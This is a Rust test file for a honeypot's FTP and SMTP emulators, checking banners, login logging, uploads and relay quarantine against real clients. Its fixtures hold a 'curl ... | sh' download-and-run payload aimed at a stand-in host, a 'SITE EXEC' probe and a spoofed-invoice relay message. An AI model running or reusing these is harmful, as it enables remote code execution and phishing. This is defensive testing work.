//! The ftp, smtp and smtp_relay emulators against real clients (lftp, tnftp, Python's ftplib
//! and smtplib, swaks) and raw sockets, on loopback only. Every configuration variable is
//! checked for a visible effect.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Command, Output};
use std::time::Duration;

use chaff_sensor::Env;
use chaff_sensor::emulators::Emulator;
use chaff_sensor::emulators::ftp::login_accepted;
use chaff_sensor::ports::{Port, Transport};
use serde_json::{Value, json};

mod support;
use support::{
    connect, events_of as of_kind, kinds, output_text as text, run_command, wait_for, wait_for_kind,
};

// ---------------------------------------------------------------------------------------
// Helpers

/// Runs a client program with `stdin`, killing it after `limit`; returns its output.
fn run(program: &str, args: &[&str], stdin: &str, limit: Duration) -> Output {
    run_command(Command::new(program).args(args), stdin.as_bytes(), limit)
}

fn python(script: &str, args: &[&str]) -> Output {
    let mut all = vec!["-c", script];
    all.extend_from_slice(args);
    run("python3", &all, "", Duration::from_secs(30))
}

/// The protocol fields of an event (without the common ones), for exact comparisons.
fn own_fields(event: &Value) -> Value {
    const COMMON: [&str; 10] =
        ["v", "ts", "decky", "service", "kind", "transport", "src_ip", "src_port", "dst_port", "conn"];
    let mut fields = event.as_object().unwrap().clone();
    fields.retain(|k, _| !COMMON.contains(&k.as_str()));
    Value::Object(fields)
}

/// A fresh empty directory, removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> TempDir {
        let dir = std::env::temp_dir().join(format!("chaff-mail-{tag}-{}", fastrand::u64(..)));
        std::fs::create_dir(&dir).unwrap();
        TempDir(dir)
    }

    fn path(&self) -> &str {
        self.0.to_str().unwrap()
    }

    fn files(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&self.0)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        names
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A line-protocol client on a raw socket: sends lines, reads whole (multi-line) replies.
struct Raw {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
}

impl Raw {
    fn connect(addr: SocketAddr) -> Raw {
        let stream = connect(addr);
        Raw { reader: BufReader::new(stream.try_clone().unwrap()), writer: stream }
    }

    /// One reply: lines up to the one whose code is followed by a space.
    fn reply(&mut self) -> String {
        let mut reply = String::new();
        loop {
            let mut line = String::new();
            assert!(self.reader.read_line(&mut line).unwrap() > 0, "connection closed after {reply:?}");
            reply.push_str(&line);
            if line.len() >= 4 && line.as_bytes()[3] == b' ' {
                return reply.trim_end().to_owned();
            }
        }
    }

    fn send(&mut self, line: &str) {
        self.writer.write_all(format!("{line}\r\n").as_bytes()).unwrap();
    }

    fn ask(&mut self, line: &str) -> String {
        self.send(line);
        self.reply()
    }

    /// Whether the server closed the connection (nothing more to read).
    fn closed(&mut self) -> bool {
        let mut rest = Vec::new();
        matches!(self.reader.read_to_end(&mut rest), Ok(0))
    }
}

fn emulator_error(slug: &str, port: u16, env: &[(&str, &str)]) -> String {
    let env = Env::from_pairs(env.iter().copied());
    match Emulator::for_port(slug, Port { number: port, transport: Transport::Tcp }, &env) {
        Ok(_) => panic!("{slug}/{port} accepted {env:?}"),
        Err(error) => error.var,
    }
}

// ---------------------------------------------------------------------------------------
// FTP

/// A password `login_accepted` lets `user` in with on `decky`.
fn accepted_password(decky: &str, user: &str) -> String {
    (0..1000)
        .map(|i| format!("Winter{i}!"))
        .find(|pw| login_accepted(decky, user.as_bytes(), pw.as_bytes()))
        .expect("one password in four is accepted")
}

const FTPLIB_SESSION: &str = r#"
import ftplib, io, sys
port, user, password, payload = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4].encode()
ftp = ftplib.FTP()
ftp.connect("127.0.0.1", port, timeout=10)
print("WELCOME", ftp.getwelcome())
print("LOGIN", ftp.login(user, password))
lines = []
ftp.retrlines("LIST", lines.append)
for line in lines:
    print("LIST", line)
print("STOR", ftp.storbinary("STOR upload/drop.sh", io.BytesIO(payload)))
readme = io.BytesIO()
print("RETR", ftp.retrbinary("RETR /pub/README.txt", readme.write))
print("README", readme.getvalue().decode().splitlines()[0])
names = ftp.nlst("upload")
print("NLST", names)
print("QUIT", ftp.quit())
"#;

#[test]
fn ftp_ftplib_logs_in_lists_over_pasv_uploads_and_downloads() {
    let decky = "files-01";
    let password = accepted_password(decky, "alice");
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", decky), ("FTP_DISTRO", "debian")]);
    let payload = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
    let port = addr.port().to_string();
    let output = python(FTPLIB_SESSION, &[&port, "alice", &password, payload]);
    let out = text(&output);
    assert!(output.status.success(), "{out}");
    assert!(out.contains("LOGIN 230"), "{out}");
    for name in ["backup", "db_backup.sql.gz", "pub", "upload"] {
        assert!(
            out.lines().any(|l| l.starts_with("LIST ") && l.ends_with(&format!(" {name}"))),
            "{name}: {out}"
        );
    }
    assert!(out.contains("STOR 226"), "{out}");
    assert!(out.contains("README This site holds files for internal distribution."), "{out}");
    assert!(out.contains("NLST ['upload/drop.sh']"), "{out}");

    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let auth = of_kind(&log, "auth");
    assert_eq!(auth.len(), 1);
    assert_eq!(own_fields(&auth[0]), json!({"username": "alice", "password": password, "success": true}));
    let upload = of_kind(&log, "upload");
    assert_eq!(
        own_fields(&upload[0]),
        json!({"path": "/upload/drop.sh", "size": payload.len(), "complete": true, "head": payload})
    );
    let download = of_kind(&log, "download");
    assert_eq!(own_fields(&download[0]), json!({"path": "/pub/README.txt", "served": true, "size": 179}));
    // Every command line is recorded, the password line included.
    let commands: Vec<String> =
        of_kind(&log, "command").iter().map(|e| e["command"].as_str().unwrap().to_owned()).collect();
    for expected in ["USER alice", &format!("PASS {password}"), "LIST", "STOR upload/drop.sh", "QUIT"] {
        assert!(commands.iter().any(|c| c == expected), "{expected}: {commands:?}");
    }
    assert!(commands.iter().any(|c| c == "PASV" || c == "EPSV"), "{commands:?}");
    assert_eq!(wait_for_kind(&log, "disconnect")["reason"], "closed");
}

#[test]
fn ftp_lftp_failed_login_is_recorded_with_its_credentials() {
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", "files-02"), ("FTP_DISTRO", "rocky9")]);
    let port = addr.port().to_string();
    let script = "set net:max-retries 1; set net:reconnect-interval-base 1; set net:timeout 5; ls; bye";
    let output = run(
        "lftp",
        &["-u", "root,Tr0ub4dor&3", "-p", &port, "-e", script, "127.0.0.1"],
        "",
        Duration::from_secs(30),
    );
    assert!(text(&output).contains("Login failed: 530 Login incorrect."), "{}", text(&output));
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(own_fields(&auth), json!({"username": "root", "password": "Tr0ub4dor&3", "success": false}));
}

#[test]
fn ftp_lftp_anonymous_session_lists_fetches_and_uploads() {
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", "files-03"), ("FTP_DISTRO", "ubuntu22")]);
    let dir = TempDir::new("lftp");
    let upload = dir.0.join("notes.txt");
    std::fs::write(&upload, "exfil test\n").unwrap();
    let port = addr.port().to_string();
    let script = format!(
        "set net:max-retries 1; set net:timeout 5; ls; cd pub; get README.txt -o {}/readme; put {} -o x.txt; \
         cls -1 /pub; bye",
        dir.path(),
        upload.display()
    );
    let output = run(
        "lftp",
        &["-u", "anonymous,guest@example.com", "-p", &port, "-e", &script, "127.0.0.1"],
        "",
        Duration::from_secs(30),
    );
    let out = text(&output);
    assert!(output.status.success(), "{out}");
    assert!(out.contains(" pub\n") && out.contains(" upload\n"), "{out}");
    assert!(out.contains("x.txt"), "the upload is listed: {out}");
    let readme = std::fs::read_to_string(dir.0.join("readme")).unwrap();
    assert!(readme.starts_with("This site holds files"), "{readme}");

    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let auth = &of_kind(&log, "auth")[0];
    assert_eq!(
        own_fields(auth),
        json!({"username": "anonymous", "password": "guest@example.com", "success": true})
    );
    let upload = &of_kind(&log, "upload")[0];
    assert_eq!(upload["path"], "/pub/x.txt");
    assert_eq!(upload["size"], 11);
    assert_eq!(upload["head"], "exfil test\n");
}

#[test]
fn ftp_tnftp_login_and_directory_listing() {
    let decky = "files-04";
    let password = accepted_password(decky, "svc_backup");
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", decky), ("FTP_DISTRO", "centos7")]);
    let port = addr.port().to_string();
    let commands = format!("user svc_backup {password}\npassive on\nls /pub\nquit\n");
    let output = run("ftp", &["-n", "-v", "127.0.0.1", &port], &commands, Duration::from_secs(30));
    let out = text(&output);
    assert!(out.contains("220 (vsFTPd 3.0.2)"), "{out}");
    assert!(out.contains("230 Login successful."), "{out}");
    assert!(out.contains("README.txt") && out.contains("CHANGELOG.txt"), "{out}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(own_fields(&auth), json!({"username": "svc_backup", "password": password, "success": true}));
}

#[test]
fn ftp_uploads_are_cut_at_one_mebibyte() {
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", "files-05"), ("FTP_DISTRO", "centos7")]);
    let script = r#"
import ftplib, io, sys
ftp = ftplib.FTP()
ftp.connect("127.0.0.1", int(sys.argv[1]), timeout=10)
ftp.login("ftp", "x")
try:
    ftp.storbinary("STOR big.bin", io.BytesIO(b"A" * (3 * 1024 * 1024)))
except ftplib.error_temp as e:
    print("REPLY", e)
except OSError:
    # The server stopped reading at its cap and closed the data connection; its verdict
    # is on the control connection.
    try:
        ftp.voidresp()
    except ftplib.error_temp as e:
        print("REPLY", e)
"#;
    let out = text(&python(script, &[&addr.port().to_string()]));
    assert!(out.contains("REPLY 451 Failure writing to local file."), "{out}");
    let upload = wait_for_kind(&log, "upload");
    assert_eq!(upload["size"], 1024 * 1024);
    assert_eq!(upload["complete"], false);
    assert_eq!(upload["head"], "A".repeat(128));
}

#[test]
fn ftp_raw_session_rules() {
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", "files-06"), ("FTP_DISTRO", "rocky9")]);
    let mut ftp = Raw::connect(addr);
    assert_eq!(ftp.reply(), "220 (vsFTPd 3.0.5)");
    assert_eq!(ftp.ask("LIST"), "530 Please login with USER and PASS.");
    assert_eq!(ftp.ask("PASS nouser"), "503 Login with USER first.");
    assert_eq!(ftp.ask("SYST"), "530 Please login with USER and PASS.");
    assert!(ftp.ask("FEAT").starts_with("211-Features:\r\n EPRT\r\n EPSV"));
    assert_eq!(ftp.ask("USER anonymous"), "331 Please specify the password.");
    assert_eq!(ftp.ask("PASS me@example.com"), "230 Login successful.");
    assert_eq!(ftp.ask("SYST"), "215 UNIX Type: L8");
    assert_eq!(ftp.ask("PWD"), "257 \"/\" is the current directory");
    assert_eq!(ftp.ask("CWD backup"), "550 Failed to change directory.");
    assert_eq!(ftp.ask("CWD /pub"), "250 Directory successfully changed.");
    assert_eq!(ftp.ask("CDUP"), "250 Directory successfully changed.");
    assert_eq!(ftp.ask("TYPE I"), "200 Switching to Binary mode.");
    assert_eq!(ftp.ask("SIZE pub/README.txt"), "213 179");
    assert_eq!(ftp.ask("RETR credentials.txt"), "550 Failed to open file.");
    assert_eq!(ftp.ask("LIST"), "425 Use PORT or PASV first.");
    // Active mode is accepted, but the sensor never connects out.
    assert_eq!(ftp.ask("PORT 127,0,0,1,0,9"), "200 PORT command successful. Consider using PASV.");
    assert_eq!(ftp.ask("LIST"), "425 Failed to establish connection.");
    assert_eq!(ftp.ask("DELE pub/README.txt"), "550 Delete operation failed.");
    assert_eq!(ftp.ask("SITE EXEC id"), "550 Permission denied.");
    assert_eq!(ftp.ask("XYZZY"), "500 Unknown command.");
    let pasv = ftp.ask("PASV");
    assert!(pasv.starts_with("227 Entering Passive Mode (127,0,0,1,"), "{pasv}");
    assert_eq!(ftp.ask("QUIT"), "221 Goodbye.");
    assert!(ftp.closed());

    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(events.iter().filter(|e| e["kind"] == "command").count(), 22);
    let download = of_kind(&log, "download");
    assert_eq!(own_fields(&download[0]), json!({"path": "/credentials.txt", "served": false}));
    assert_eq!(of_kind(&log, "disconnect")[0]["reason"], "closed");
}

/// The port of a `227 Entering Passive Mode (h1,h2,h3,h4,p1,p2).` reply.
fn passive_port(reply: &str) -> u16 {
    let inside = &reply[reply.find('(').unwrap() + 1..reply.find(')').unwrap()];
    let numbers: Vec<u16> = inside.split(',').map(|n| n.parse().unwrap()).collect();
    numbers[4] * 256 + numbers[5]
}

#[test]
fn ftp_proftpd_persona_speaks_like_proftpd() {
    let proftpd = (0..32)
        .map(|i| format!("decky-{i:02}"))
        .find(|decky| {
            banner("ftp", 21, &[("NODE_NAME", decky), ("FTP_DISTRO", "debian")]).contains("ProFTPD")
        })
        .expect("some Debian deckies run ProFTPD");
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", &proftpd), ("FTP_DISTRO", "debian")]);
    let mut ftp = Raw::connect(addr);
    assert_eq!(ftp.reply(), "220 ProFTPD Server (Debian) [::ffff:127.0.0.1]");
    assert!(
        ftp.ask("HELP").starts_with("214-The following commands are recognized (* =>'s unimplemented):\r\n")
    );
    assert_eq!(ftp.ask("XYZZY"), "500 XYZZY not understood");
    assert_eq!(ftp.ask("PWD"), "530 Please login with USER and PASS");
    assert_eq!(ftp.ask("AUTH TLS"), "500 AUTH not understood");
    assert_eq!(
        ftp.ask("USER anonymous"),
        "331 Anonymous login ok, send your complete email address as your password"
    );
    assert_eq!(ftp.ask("PASS a@b.c"), "230 Anonymous access granted, restrictions apply");
    assert_eq!(ftp.ask("CWD backup"), "550 backup: Permission denied");
    assert_eq!(ftp.ask("CWD nowhere"), "550 nowhere: No such file or directory");
    let mlst = ftp.ask("MLST pub/README.txt");
    assert!(mlst.starts_with("250-Start of list for pub/README.txt\r\n modify="), "{mlst}");
    assert!(mlst.contains(";size=179;type=file;") && mlst.ends_with(" /pub/README.txt\r\n250 End"), "{mlst}");
    assert_eq!(ftp.ask("MFMT 20240101000000 pub/README.txt"), "213 Modify=20240101000000; pub/README.txt");
    assert_eq!(ftp.ask("LIST backup"), "550 backup: Permission denied");

    let pasv = ftp.ask("PASV");
    let mut data = TcpStream::connect(("127.0.0.1", passive_port(&pasv))).unwrap();
    assert_eq!(ftp.ask("MLSD pub"), "150 Opening ASCII mode data connection for MLSD");
    let mut listing = String::new();
    data.read_to_string(&mut listing).unwrap();
    assert_eq!(ftp.reply(), "226 Transfer complete");
    let names: Vec<&str> = listing.lines().map(|l| l.rsplit(' ').next().unwrap()).collect();
    assert_eq!(names, ["CHANGELOG.txt", "README.txt"], "{listing}");
    assert!(listing.contains("UNIX.ownername=root;"), "{listing}");
    assert_eq!(ftp.ask("QUIT"), "221 Goodbye.");
    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
}

#[test]
fn ftp_three_failed_logins_end_the_session() {
    let (addr, log) = support::serve("ftp", 21, &[("NODE_NAME", "files-07"), ("FTP_DISTRO", "debian")]);
    let mut ftp = Raw::connect(addr);
    ftp.reply();
    for attempt in 1..=3 {
        ftp.ask("USER root");
        assert_eq!(ftp.ask(&format!("PASS guess{attempt}")), "530 Login incorrect.");
    }
    assert!(ftp.closed());
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let passwords: Vec<&str> =
        events.iter().filter(|e| e["kind"] == "auth").map(|e| e["password"].as_str().unwrap()).collect();
    assert_eq!(passwords, ["guess1", "guess2", "guess3"]);
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

fn banner(slug: &str, port: u16, env: &[(&str, &str)]) -> String {
    let (addr, _log) = support::serve(slug, port, env);
    Raw::connect(addr).reply()
}

#[test]
fn ftp_distro_and_node_name_choose_the_server() {
    // FTP_DISTRO: what the distribution packages.
    assert_eq!(banner("ftp", 21, &[("NODE_NAME", "a"), ("FTP_DISTRO", "centos7")]), "220 (vsFTPd 3.0.2)");
    assert_eq!(banner("ftp", 21, &[("NODE_NAME", "a"), ("FTP_DISTRO", "rocky9")]), "220 (vsFTPd 3.0.5)");
    assert_eq!(emulator_error("ftp", 21, &[("FTP_DISTRO", "gentoo")]), "FTP_DISTRO");

    // NODE_NAME: one decky always answers the same; deckies differ.
    let debian: Vec<String> = (0..8)
        .map(|i| banner("ftp", 21, &[("NODE_NAME", &format!("decky-{i:02}")), ("FTP_DISTRO", "debian")]))
        .collect();
    assert!(debian.contains(&"220 (vsFTPd 3.0.3)".to_owned()), "{debian:?}");
    assert!(debian.contains(&"220 ProFTPD Server (Debian) [::ffff:127.0.0.1]".to_owned()), "{debian:?}");
    let again = banner("ftp", 21, &[("NODE_NAME", "decky-00"), ("FTP_DISTRO", "debian")]);
    assert_eq!(again, debian[0]);

    // The decky's files differ too (same server, different sizes).
    let size = |decky: &str| {
        let (addr, _log) = support::serve("ftp", 21, &[("NODE_NAME", decky), ("FTP_DISTRO", "centos7")]);
        let mut ftp = Raw::connect(addr);
        ftp.reply();
        ftp.ask("USER ftp");
        ftp.ask("PASS x");
        ftp.ask("SIZE /db_backup.sql.gz")
    };
    assert_eq!(size("decky-01"), size("decky-01"));
    assert_ne!(size("decky-01"), size("decky-02"));
}

// ---------------------------------------------------------------------------------------
// SMTP

fn swaks(addr: SocketAddr, args: &[&str]) -> Output {
    let server = addr.to_string();
    let mut all = vec!["--server", &server, "--timeout", "10", "--helo", "scanner.example"];
    all.extend_from_slice(args);
    run("swaks", &all, "", Duration::from_secs(30))
}

#[test]
fn smtp_swaks_auth_login_is_recorded_with_exact_credentials() {
    let (addr, log) = support::serve("smtp", 25, &[("NODE_NAME", "mail-01"), ("SMTP_OPEN_RELAY", "0")]);
    let output = swaks(
        addr,
        &["--auth", "LOGIN", "--auth-user", "u", "--auth-password", "p", "--to", "x@example.org"],
    );
    let out = text(&output);
    assert!(!output.status.success(), "a closed relay refuses AUTH: {out}");
    assert!(out.contains("535 5.7.8 Error: authentication failed: authentication failure"), "{out}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(
        own_fields(&auth),
        json!({"mechanism": "LOGIN", "username": "u", "password": "p", "success": false})
    );
}

#[test]
fn smtp_swaks_open_relay_message_is_quarantined() {
    let quarantine = TempDir::new("relay");
    let (addr, log) = support::serve(
        "smtp_relay",
        587,
        &[
            ("NODE_NAME", "mail-02"),
            ("SMTP_SERVICE_NAME", "smtp_relay"),
            ("SMTP_OPEN_RELAY", "1"),
            ("SMTP_QUARANTINE_DIR", quarantine.path()),
        ],
    );
    let body = "Please find the invoice attached.\n.hidden line\n";
    let output = swaks(
        addr,
        &[
            "--auth",
            "PLAIN",
            "--auth-user",
            "spam@bulk.example",
            "--auth-password",
            "s3cr3t pass",
            "--from",
            "billing@bank.example",
            "--to",
            "victim@example.org,second@example.net",
            "--header",
            "Subject: Quarterly invoice",
            "--body",
            body,
        ],
    );
    let out = text(&output);
    assert!(output.status.success(), "{out}");
    assert!(out.contains("235 2.7.0 Authentication successful"), "{out}");
    let queued = out.lines().find(|l| l.contains("250 2.0.0 Ok: queued as ")).expect(&out);
    let queue_id = queued.rsplit(' ').next().unwrap();

    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let auth = &of_kind(&log, "auth")[0];
    assert_eq!(
        own_fields(auth),
        json!({"mechanism": "PLAIN", "username": "spam@bulk.example", "password": "s3cr3t pass", "success": true})
    );
    assert_eq!(own_fields(&of_kind(&log, "mail_from")[0]), json!({"address": "billing@bank.example"}));
    let rcpts: Vec<Value> = of_kind(&log, "rcpt_to").iter().map(own_fields).collect();
    assert_eq!(
        rcpts,
        [
            json!({"address": "victim@example.org", "accepted": true}),
            json!({"address": "second@example.net", "accepted": true})
        ]
    );
    let message = &of_kind(&log, "message")[0];
    assert_eq!(message["from"], "billing@bank.example");
    assert_eq!(message["recipients"], json!(["victim@example.org", "second@example.net"]));
    assert_eq!(message["subject"], "Quarterly invoice");
    assert_eq!(message["accepted"], true);
    assert_eq!(message["queue_id"], queue_id);
    let file = message["file"].as_str().unwrap();
    assert_eq!(quarantine.files(), [file]);
    let saved = std::fs::read_to_string(quarantine.0.join(file)).unwrap();
    assert_eq!(message["size"], saved.len());
    assert!(saved.contains("Subject: Quarterly invoice\r\n"), "{saved}");
    assert!(
        saved.contains("Please find the invoice attached.\r\n.hidden line\r\n"),
        "dot-unstuffed: {saved}"
    );
    assert!(of_kind(&log, "relay_withheld").is_empty(), "no upstream configured");
}

const SMTPLIB_AUTH_PLAIN: &str = r#"
import smtplib, sys
s = smtplib.SMTP("127.0.0.1", int(sys.argv[1]), timeout=10)
s.ehlo("client.example")
print("FEATURES", s.esmtp_features.get("auth").strip())
try:
    print("AUTH", s.login(sys.argv[2], sys.argv[3]))
except smtplib.SMTPAuthenticationError as e:
    print("REFUSED", e.smtp_code, e.smtp_error.decode())
print("QUIT", s.quit())
"#;

#[test]
fn smtp_smtplib_auth_plain_on_port_587() {
    let (addr, log) = support::serve("smtp", 587, &[("NODE_NAME", "mail-03"), ("SMTP_MTA", "exim")]);
    let out = text(&python(SMTPLIB_AUTH_PLAIN, &[&addr.port().to_string(), "admin@mail-03", "P@ss:w0rd!"]));
    assert!(out.contains("FEATURES PLAIN LOGIN"), "{out}");
    assert!(out.contains("REFUSED 535 Incorrect authentication data"), "{out}");
    let auth = wait_for_kind(&log, "auth");
    assert_eq!(
        own_fields(&auth),
        json!({"mechanism": "PLAIN", "username": "admin@mail-03", "password": "P@ss:w0rd!", "success": false})
    );

    let (addr, log) = support::serve("smtp", 587, &[("NODE_NAME", "mail-03"), ("SMTP_OPEN_RELAY", "1")]);
    let out = text(&python(SMTPLIB_AUTH_PLAIN, &[&addr.port().to_string(), "bob", "hunter2"]));
    assert!(out.contains("AUTH (235"), "{out}");
    assert_eq!(wait_for_kind(&log, "auth")["success"], true);
}

#[test]
fn smtp_closed_relay_refuses_foreign_recipients_and_keeps_local_mail() {
    let quarantine = TempDir::new("closed");
    let (addr, log) = support::serve(
        "smtp",
        25,
        &[("NODE_NAME", "mail-04"), ("SMTP_OPEN_RELAY", "0"), ("SMTP_QUARANTINE_DIR", quarantine.path())],
    );
    let mut smtp = Raw::connect(addr);
    assert_eq!(smtp.reply(), "220 mail-04 ESMTP Postfix (Debian/GNU)");
    assert!(smtp.ask("EHLO x").starts_with("250-mail-04\r\n250-PIPELINING"));
    assert_eq!(smtp.ask("RCPT TO:<a@mail-04>"), "503 5.5.1 Error: need MAIL command");
    assert_eq!(smtp.ask("MAIL FROM:<spammer@example.net>"), "250 2.1.0 Ok");
    assert_eq!(smtp.ask("MAIL FROM:<again@example.net>"), "503 5.5.1 Error: nested MAIL command");
    assert_eq!(
        smtp.ask("RCPT TO:<victim@example.org>"),
        "554 5.7.1 <victim@example.org>: Relay access denied"
    );
    assert_eq!(smtp.ask("RCPT TO:<root@mail-04>"), "250 2.1.5 Ok");
    assert_eq!(smtp.ask("RCPT TO:<postmaster>"), "250 2.1.5 Ok");
    assert_eq!(smtp.ask("DATA"), "354 End data with <CR><LF>.<CR><LF>");
    smtp.send("Subject: hello\r\n\r\n..starts with a dot\r\n.");
    let queued = smtp.reply();
    assert!(queued.starts_with("250 2.0.0 Ok: queued as "), "{queued}");
    assert_eq!(smtp.ask("DATA"), "554 5.5.1 Error: no valid recipients");
    assert_eq!(smtp.ask("QUIT"), "221 2.0.0 Bye");

    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let accepted: Vec<(String, bool)> = of_kind(&log, "rcpt_to")
        .iter()
        .map(|e| (e["address"].as_str().unwrap().to_owned(), e["accepted"].as_bool().unwrap()))
        .collect();
    assert_eq!(
        accepted,
        [("victim@example.org".into(), false), ("root@mail-04".into(), true), ("postmaster".into(), true)]
    );
    let message = &of_kind(&log, "message")[0];
    assert_eq!(message["recipients"], json!(["root@mail-04", "postmaster"]));
    let saved = std::fs::read(quarantine.0.join(message["file"].as_str().unwrap())).unwrap();
    assert_eq!(saved, b"Subject: hello\r\n\r\n.starts with a dot\r\n");
}

#[test]
fn smtp_messages_over_the_size_limit_are_refused_and_not_kept() {
    let quarantine = TempDir::new("big");
    let (addr, log) = support::serve(
        "smtp",
        25,
        &[("NODE_NAME", "mail-05"), ("SMTP_OPEN_RELAY", "1"), ("SMTP_QUARANTINE_DIR", quarantine.path())],
    );
    let mut smtp = Raw::connect(addr);
    smtp.reply();
    smtp.ask("EHLO x");
    smtp.ask("MAIL FROM:<a@example.net>");
    smtp.ask("RCPT TO:<b@example.org>");
    assert_eq!(smtp.ask("DATA"), "354 End data with <CR><LF>.<CR><LF>");
    let line = format!("{}\r\n", "x".repeat(998));
    let chunk = line.repeat(1024);
    for _ in 0..11 {
        smtp.writer.write_all(chunk.as_bytes()).unwrap();
    }
    smtp.send(".");
    assert_eq!(smtp.reply(), "552 5.3.4 Message size exceeds fixed limit");
    // The session goes on.
    assert_eq!(smtp.ask("NOOP"), "250 2.0.0 Ok");
    let message = wait_for_kind(&log, "message");
    assert_eq!(message["accepted"], false);
    assert_eq!(message["size"], 11 * 1024 * 1000);
    assert!(message.get("file").is_none());
    assert!(quarantine.files().is_empty());
}

#[test]
fn smtp_other_commands_and_the_error_limit() {
    let (addr, log) = support::serve("smtp", 25, &[("NODE_NAME", "mail-06")]);
    let mut smtp = Raw::connect(addr);
    smtp.reply();
    assert_eq!(smtp.ask("HELO"), "501 Syntax: HELO hostname");
    assert_eq!(smtp.ask("AUTH PLAIN AGEAYg=="), "503 5.5.1 Error: send HELO/EHLO first");
    assert_eq!(smtp.ask("HELO client"), "250 mail-06");
    assert_eq!(smtp.ask("STARTTLS"), "454 4.7.0 TLS not available due to local problem");
    assert_eq!(smtp.ask("VRFY root"), "252 2.0.0 root");
    assert_eq!(smtp.ask("NOOP"), "250 2.0.0 Ok");
    assert_eq!(smtp.ask("RSET"), "250 2.0.0 Ok");
    assert_eq!(smtp.ask("EHLO client"), smtp_ehlo_postfix("mail-06"));
    assert_eq!(
        smtp.ask("AUTH CRAM-MD5"),
        "535 5.7.8 Error: authentication failed: Invalid authentication mechanism"
    );
    assert_eq!(smtp.ask("AUTH LOGIN"), "334 VXNlcm5hbWU6");
    assert_eq!(smtp.ask("*"), "501 5.7.0 Authentication aborted");
    // HELO, AUTH before EHLO, STARTTLS, CRAM-MD5 and the cancelled LOGIN were errors.
    let mut errors = 5;
    while errors < 20 {
        assert_eq!(smtp.ask("WIBBLE"), "502 5.5.2 Error: command not recognized");
        errors += 1;
    }
    assert_eq!(smtp.reply(), "421 4.7.0 mail-06 Error: too many errors");
    assert!(smtp.closed());
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert!(of_kind(&log, "auth").is_empty(), "no credentials were given");
    assert_eq!(events.last().unwrap()["reason"], "closed");
}

#[test]
fn smtp_transactions_are_bounded() {
    let (addr, log) = support::serve("smtp", 25, &[("NODE_NAME", "mail-07"), ("SMTP_OPEN_RELAY", "1")]);
    let mut smtp = Raw::connect(addr);
    smtp.reply();
    smtp.ask("EHLO x");
    let long = format!("MAIL FROM:<{}@example.net>", "a".repeat(300));
    assert_eq!(smtp.ask(&long), "501 5.5.4 Syntax: MAIL FROM:<address>");
    smtp.ask("MAIL FROM:<a@example.net>");
    for i in 0..100 {
        assert_eq!(smtp.ask(&format!("RCPT TO:<r{i}@example.org>")), "250 2.1.5 Ok");
    }
    assert_eq!(smtp.ask("RCPT TO:<one-too-many@example.org>"), "452 4.5.3 Error: too many recipients");
    assert_eq!(smtp.ask("QUIT"), "221 2.0.0 Bye");
    wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    assert_eq!(of_kind(&log, "rcpt_to").len(), 100);
}

#[test]
fn smtp_a_message_cut_short_is_still_recorded() {
    let quarantine = TempDir::new("cut");
    let (addr, log) = support::serve(
        "smtp",
        25,
        &[("NODE_NAME", "mail-08"), ("SMTP_OPEN_RELAY", "1"), ("SMTP_QUARANTINE_DIR", quarantine.path())],
    );
    let mut smtp = Raw::connect(addr);
    smtp.reply();
    smtp.ask("EHLO x");
    smtp.ask("MAIL FROM:<a@example.net>");
    smtp.ask("RCPT TO:<b@example.org>");
    smtp.ask("DATA");
    smtp.writer.write_all(b"Subject: partial\r\n\r\nhalf a mess").unwrap();
    smtp.writer.shutdown(std::net::Shutdown::Write).unwrap();
    let events = wait_for(&log, "disconnect", |e| kinds(e).contains(&"disconnect"));
    let message = &of_kind(&log, "message")[0];
    assert_eq!(
        own_fields(message),
        json!({"from": "a@example.net", "recipients": ["b@example.org"], "size": 31, "subject": "partial", "accepted": false})
    );
    assert!(quarantine.files().is_empty());
    assert_eq!(events.last().unwrap()["reason"], "eof");
}

fn smtp_ehlo_postfix(host: &str) -> String {
    format!(
        "250-{host}\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-VRFY\r\n250-AUTH PLAIN LOGIN\r\n\
         250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-DSN\r\n250 SMTPUTF8"
    )
}

#[test]
fn smtp_mta_distro_banner_and_node_name_shape_the_dialogue() {
    let greet = |env: &[(&str, &str)]| banner("smtp", 25, env);
    // NODE_NAME names the host; SMTP_DISTRO tags Postfix's banner.
    assert_eq!(greet(&[("NODE_NAME", "mx-7")]), "220 mx-7 ESMTP Postfix (Debian/GNU)");
    assert_eq!(
        greet(&[("NODE_NAME", "mx-7"), ("SMTP_DISTRO", "ubuntu20")]),
        "220 mx-7 ESMTP Postfix (Ubuntu)"
    );
    assert_eq!(greet(&[("NODE_NAME", "mx-7"), ("SMTP_DISTRO", "fedora")]), "220 mx-7 ESMTP Postfix");
